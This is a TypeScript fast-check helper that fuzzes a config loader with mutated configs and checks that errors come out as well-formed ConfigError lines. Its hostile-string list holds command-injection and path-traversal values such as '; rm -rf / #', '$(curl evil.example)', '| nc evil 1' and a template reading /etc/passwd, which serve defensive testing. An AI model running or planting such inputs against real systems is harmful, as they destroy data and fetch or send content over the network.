/**
 * fast-check generators for hostile configs: the default config mutated
 * with wrong types, hostile strings, deleted fields and extra keys.
 */
import fc from "fast-check";
import { ConfigError } from "../../lib/config/errors";

/** Fixed seed and bounded runs in `npm test`; `FC_NUM_RUNS=2000 npm run test:props` for a long run. */
export function fcOptions(quickRuns: number): { seed: number; numRuns: number } {
  const runs = Number(process.env.FC_NUM_RUNS);
  return { seed: Number(process.env.FC_SEED ?? 20261123), numRuns: Number.isInteger(runs) && runs > 0 ? runs : quickRuns };
}

/** Strings an attacker or a careless user might type. */
export const HOSTILE_STRINGS = [
  "",
  " ",
  "${var.secret}",
  '${file("/etc/passwd")}',
  "%{ for x in y }x%{ endfor }",
  "$${escaped}",
  "a${b}c",
  "../../etc/passwd",
  "..\\..\\windows\\system32",
  "/dev/zero",
  "; rm -rf / #",
  "$(curl evil.example)",
  "`id`",
  "| nc evil 1",
  "a\nb",
  "\u0000",
  "\u202Eevil",
  "é",
  "🇫🇷",
  "Ａｄｍｉｎ",
  "__proto__",
  "constructor",
  "x".repeat(100_000),
  "é".repeat(5_000),
];

/** The code points below and above the UTF-16 surrogates. */
const SURROGATES = { first: 0xd800, count: 0x800 };

/**
 * Any code point but a lone surrogate: fast-check's `unit: "binary"`, the same values for the same seed, and the same
 * shrinking. fast-check builds that unit as a `mapToConstant` whose unmapper is a map of all 1,112,064 code points,
 * built when a string arbitrary is made (about 0.7 s of CPU in every test file that makes one); this one unmaps by
 * arithmetic.
 */
export const binaryUnit: fc.Arbitrary<string> = fc.nat({ max: 0x10ffff - SURROGATES.count }).map(
  (i) => String.fromCodePoint(i < SURROGATES.first ? i : i + SURROGATES.count),
  (c) => {
    const point = typeof c === "string" ? c.codePointAt(0) : undefined;
    if (point === undefined || String.fromCodePoint(point) !== c || (point >= SURROGATES.first && point < SURROGATES.first + SURROGATES.count)) {
      throw new Error("not one code point");
    }
    return point < SURROGATES.first ? point : point - SURROGATES.count;
  },
);

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...HOSTILE_STRINGS),
  fc.string({ unit: binaryUnit, maxLength: 40 }),
  fc.string({ maxLength: 40 }).map((s) => `\${${s}}`),
);

/** A value of any JSON type, often hostile. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  hostileString,
  fc.integer(),
  fc.double(),
  fc.boolean(),
  fc.constant(null),
  fc.array(hostileString, { maxLength: 3 }),
  fc.dictionary(hostileString, hostileString, { maxKeys: 2 }),
  fc.jsonValue({ maxDepth: 2 }),
);

type Path = (string | number)[];

/** Every path of a JSON value, containers and leaves, root excluded. */
export function pathsOf(value: unknown, prefix: Path = []): Path[] {
  if (!value || typeof value !== "object") return [];
  const entries: [string | number, unknown][] = Array.isArray(value) ? value.map((v, i) => [i, v]) : Object.entries(value);
  return entries.flatMap(([key, child]) => [[...prefix, key], ...pathsOf(child, [...prefix, key])]);
}

/** The container paths (objects and arrays), root included. */
export function containerPathsOf(value: unknown): Path[] {
  return [[], ...pathsOf(value)].filter((p) => {
    const v = get(value, p);
    return v !== null && typeof v === "object";
  });
}

export function get(value: unknown, path: Path): any {
  return path.reduce<any>((v, key) => (v == null ? undefined : v[key]), value);
}

/** One change to a config. */
export type Mutation =
  { op: "set"; path: Path; value: unknown } | { op: "delete"; path: Path } | { op: "add"; path: Path; key: string; value: unknown };

/** One to three mutations of `base`, on paths that exist in it. */
export function mutations(base: unknown): fc.Arbitrary<Mutation[]> {
  const paths = pathsOf(base);
  const containers = containerPathsOf(base);
  const mutation: fc.Arbitrary<Mutation> = fc.oneof(
    fc.record({ op: fc.constant("set" as const), path: fc.constantFrom(...paths), value: hostileValue }),
    fc.record({ op: fc.constant("delete" as const), path: fc.constantFrom(...paths) }),
    fc.record({ op: fc.constant("add" as const), path: fc.constantFrom(...containers), key: hostileString, value: hostileValue }),
  );
  return fc.array(mutation, { minLength: 1, maxLength: 3 });
}

/** Apply mutations to a deep copy of `base`. */
export function mutate(base: unknown, changes: readonly Mutation[]): any {
  const copy = structuredClone(base);
  for (const m of changes) {
    const parent = get(copy, m.op === "add" ? m.path : m.path.slice(0, -1));
    if (parent === null || typeof parent !== "object") continue; // an earlier change removed it
    if (m.op === "add") Object.defineProperty(parent, m.key, { value: m.value, enumerable: true, writable: true, configurable: true });
    else {
      const key = m.path[m.path.length - 1];
      if (m.op === "set") parent[key] = m.value;
      else if (Array.isArray(parent) && typeof key === "number") parent.splice(key, 1);
      else delete parent[key];
    }
  }
  return copy;
}

/** A config path as errors print it: `a.b[0].c`, or `a["odd key"]` for keys that are not plain names. */
const PATH = String.raw`(?:[A-Za-z0-9_-]+|\["(?:[^"\\]|\\.)*"\])(?:\.[A-Za-z0-9_-]+|\[\d+\]|\["(?:[^"\\]|\\.)*"\])*`;
/** One problem line: `<path>: <problem>`, on one line. */
export const PROBLEM_LINE = new RegExp(`^${PATH}: [^\\n]+$`);

/** Run `f`; any exception other than a ConfigError whose every problem reads `<path>: <problem>` fails the property. */
export function expectValidOrConfigError<T>(f: () => T): T | ConfigError {
  try {
    return f();
  } catch (e) {
    if (!(e instanceof ConfigError)) throw new Error(`not a ConfigError: ${(e as Error)?.stack ?? String(e)}`, { cause: e });
    expect(e.problems.length).toBeGreaterThan(0);
    for (const p of e.problems) {
      if (!PROBLEM_LINE.test(p)) throw new Error(`problem line does not read "<path>: <problem>": ${JSON.stringify(p.slice(0, 300))}`, { cause: e });
    }
    return e;
  }
}
